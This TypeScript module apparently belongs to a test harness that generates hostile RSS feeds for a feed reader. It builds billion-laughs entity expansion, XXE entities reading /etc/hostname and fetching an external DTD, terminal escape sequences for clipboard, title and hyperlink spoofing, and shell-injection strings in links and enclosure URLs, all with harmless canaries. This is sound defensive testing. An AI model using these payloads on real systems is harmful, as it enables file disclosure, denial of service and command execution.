/**
 * Hostile payloads, one feed per kind. They go for the reader's XML parser (entity expansion, external
 * entities), its memory (a feed that never ends), its terminal (escape sequences raw, as C1 characters
 * and as character references that an HTML decoder turns into ESC, in titles, authors, categories,
 * links and bodies) and its shell (metacharacters in links and enclosure URLs).
 *
 * What they could do if they worked is harmless and observable: set a window title to TITLE_CANARY,
 * write OSC52_CANARY to the clipboard, fetch /evil.dtd (the farm counts it), or touch a file named
 * CANARY_PREFIX* in CANARY_DIR.
 */
import { cdata, escapeAttr, escapeXml } from './text.js';
import type { Affliction } from './plan.js';

export const CANARY_DIR = '/tmp';
export const CANARY_PREFIX = 'broadsheet-farm-pwned-';
export const TITLE_CANARY = 'broadsheet-farm-title-canary';
export const OSC52_CANARY = 'broadsheet-farm-osc52-canary';
export const XXE_CANARY = 'broadsheet-farm-xxe-canary';

/** Raw XML for the parts of an item a payload replaces (already escaped as the payload intends). */
export interface ItemOverride {
  title?: string;
  link?: string;
  comments?: string;
  author?: string;
  category?: string;
  /** HTML for the body, escaped or put in CDATA as the feed does it. */
  html?: string;
  /** Raw XML content for the description and content:encoded. */
  rawHtml?: string;
  /** The enclosure's url attribute, raw. */
  enclosure?: string;
}

const ESC = '\x1b';
const BEL = '\x07';
const ST = `${ESC}\\`;
const osc52 = `${ESC}]52;c;${Buffer.from(OSC52_CANARY).toString('base64')}${BEL}`;

/** Terminal attacks as raw bytes: ESC, BEL, BS and NUL are not even allowed in XML 1.0, so the document is ill-formed. */
const RAW_TITLES = [
  `Clear ${ESC}[2J${ESC}[H${ESC}[1;31mscreen and colour`,
  `Window title ${ESC}]0;${TITLE_CANARY}${BEL} set`,
  `Clipboard ${osc52} write`,
  `Hyperlink ${ESC}]8;;http://127.0.0.1/phish${ST}innocent text${ESC}]8;;${ST} spoof`,
  `Device control ${ESC}P+q544e${ST} string`,
  `Bell ${BEL}${BEL} and backspace safe text\b\b\b\bevil`,
  `8-bit CSI \u009b2J and NUL \x00 in a title`,
  `Report request ${ESC}[21t${ESC}[6n echoes back`,
];
const RAW_ELSEWHERE = {
  author: `Mallory ${ESC}[31mRed${ESC}[0m`,
  category: `News${ESC}]0;${TITLE_CANARY}${BEL}`,
  link: `http://127.0.0.1/site/raw${ESC}]8;;x${ST}`,
};

/** Well-formed XML, dangerous after decoding: C1 and bidi characters as such, ESC as references inside CDATA. */
const ENCODED_TITLES = [
  `\u202Egnp.exe\u202C innocent.png (bidi override)`,
  `C1 CSI \u009b2J\u009bH clears the screen`,
  `Isolates \u2067hidden\u2069 and zero\u200Bwidth`,
];
const CHARREF_TITLES = [
  'Charref &#27;[2J clear',
  `Charref OSC 52 &#27;]52;c;${Buffer.from(OSC52_CANARY).toString('base64')}&#7;`,
  `Charref &#x1b;]0;${TITLE_CANARY}&#x07; title`,
  'Charref &#27;]8;;http://127.0.0.1/phish&#27;\\link&#27;]8;;&#27;\\',
  'Charref DCS &#27;P1$r&#27;\\ and NUL &#0; and C1 &#155;2J',
];

/** Touches CANARY_DIR/CANARY_PREFIX<name> if a shell ever sees it. */
const touch = (name: string) => `touch ${CANARY_DIR}/${CANARY_PREFIX}${name}`;

function shellMeta(base: string): ItemOverride[] {
  return [
    { title: escapeXml(`Episode '; ${touch('title')}; echo '`) },
    { link: escapeXml(`${base}/site/x?a=1&b=$(${touch('link')})`) },
    { enclosure: escapeAttr(`${base}/media/ep\`${touch('enclosure')}\`.mp3`) },
    { enclosure: escapeAttr(`${base}/media/ep1.mp3;${touch('enclosure2')};.mp3`) },
    { link: escapeXml(`${base}/site/y.html"; ${touch('link2')}; "`), title: escapeXml(`$(${touch('title2')})`) },
    { link: escapeXml(`${base}/site/z.html' | ${touch('link3')} | '`) },
    { link: escapeXml(`${base}/site/w.html && ${touch('link4')}`), title: escapeXml(`Pipe | ${touch('title3')} &`) },
    { comments: escapeXml(`${base}/site/c.html;${touch('comments')}`), author: escapeXml(`\`${touch('author')}\``) },
  ];
}

/** The item overrides of a hostile feed, newest item first (empty for the other kinds). */
export function hostileItems(kind: Affliction, base: string): ItemOverride[] {
  switch (kind) {
    case 'billion-laughs':
      return [{ title: 'Laughs &lol9;' }, { title: 'Laughs in the author', author: '&lol8;' }, { title: 'Laughs in the body', rawHtml: '&lol9;' }];
    case 'xxe':
      return [{ title: 'XXE canary [&xxe;] [&remote;]' }, { title: 'XXE canary in the body', rawHtml: '&xxe; &remote;' }];
    case 'escape-raw':
      return RAW_TITLES.map((t, i) => ({
        title: escapeXml(t),
        html: `<p>${escapeXml(RAW_TITLES[(i + 1) % RAW_TITLES.length]!)}</p>`,
        ...(i === 0 ? { author: escapeXml(RAW_ELSEWHERE.author), category: escapeXml(RAW_ELSEWHERE.category) } : {}),
        ...(i === 1 ? { comments: escapeXml(RAW_ELSEWHERE.link) } : {}),
        ...(i === 2 ? { link: escapeXml(RAW_ELSEWHERE.link) } : {}),
      }));
    case 'escape-encoded':
      return [
        ...ENCODED_TITLES.map((t, i) => ({
          title: escapeXml(t),
          ...(i === 0 ? { author: cdata('Mallory &#x202E;live&#x202C;'), category: escapeXml('Bidi \u202Eweiv\u202C') } : {}),
          ...(i === 1 ? { link: escapeXml('http://127.0.0.1/site/\u202Egnp.exe\u009b2J') } : {}),
        })),
        ...CHARREF_TITLES.map((t) => ({ title: cdata(t), html: `<p>${t}</p>` })),
      ];
    case 'shell-meta':
      return shellMeta(base);
    default:
      return [];
  }
}

/** The document type declaration a hostile feed starts with (after the XML declaration). */
export function hostileDoctype(kind: Affliction, base: string): string {
  if (kind === 'billion-laughs') {
    // Ten references per level, nine levels: 10^9 "lol"s, about 3 GB, if a parser expands them.
    const levels = [' <!ENTITY lol "lol">'];
    for (let n = 1; n <= 9; n++) levels.push(` <!ENTITY lol${n} "${`&lol${n === 1 ? '' : n - 1};`.repeat(10)}">`);
    return `\n<!DOCTYPE rss [\n${levels.join('\n')}\n]>`;
  }
  if (kind === 'xxe') {
    return `\n<!DOCTYPE rss SYSTEM "${base}/evil.dtd" [
 <!ENTITY xxe SYSTEM "file:///etc/hostname">
 <!ENTITY remote SYSTEM "${base}/evil.dtd?entity">
 <!ENTITY % external SYSTEM "${base}/evil.dtd?parameter">
 %external;
]>`;
  }
  return '';
}

/** What /evil.dtd answers, should anyone ask. */
export const EVIL_DTD = `<!ENTITY canary "${XXE_CANARY}">\n`;
